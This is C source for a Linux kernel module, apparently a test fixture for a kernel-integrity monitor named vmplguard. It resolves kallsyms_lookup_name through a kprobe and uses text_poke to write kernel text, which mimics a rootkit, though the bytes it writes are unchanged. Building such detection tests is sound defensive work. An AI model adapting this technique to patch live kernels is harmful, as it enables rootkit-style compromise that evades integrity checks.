// SPDX-License-Identifier: GPL-2.0-only
/*
 * Test-bed attack module: does what kernel rootkits do to patch kernel text
 * on a stock kernel. kallsyms_lookup_name is not exported, so it is found
 * through a kprobe; text_poke and text_mutex are then looked up by name and
 * kernel text is written outside any policy site. The bytes written are the
 * bytes already there, so the guest keeps running and the test can go on;
 * the agent cannot know that and must report a violation attributed to this
 * module. Never load this outside the QEMU test bed.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/string.h>

static char *target = "devkmsg_read";
module_param(target, charp, 0444);
static unsigned int offset = 16;
module_param(offset, uint, 0444);

typedef unsigned long (*lookup_fn)(const char *name);
typedef void *(*text_poke_fn)(void *addr, const void *opcode, size_t len);

static int __init vg_attack_init(void)
{
	struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
	lookup_fn lookup;
	text_poke_fn poke;
	struct mutex *text_mutex_ptr;
	unsigned char *victim;
	unsigned char bytes[4];
	int err;

	err = register_kprobe(&probe);
	if (err)
		return err;
	lookup = (lookup_fn)probe.addr;
	unregister_kprobe(&probe);

	poke = (text_poke_fn)lookup("text_poke");
	text_mutex_ptr = (struct mutex *)lookup("text_mutex");
	victim = (unsigned char *)lookup(target);
	if (!poke || !text_mutex_ptr || !victim)
		return -ENOENT;
	victim += offset;
	memcpy(bytes, victim, sizeof(bytes));
	mutex_lock(text_mutex_ptr);
	poke(victim, bytes, sizeof(bytes));
	mutex_unlock(text_mutex_ptr);
	pr_info("vg_attack: wrote %zu bytes at %pS (%px)\n", sizeof(bytes), victim, victim);
	return 0;
}

static void __exit vg_attack_exit(void)
{
}

module_init(vg_attack_init);
module_exit(vg_attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmplguard test bed: rootkit-style kernel text write");
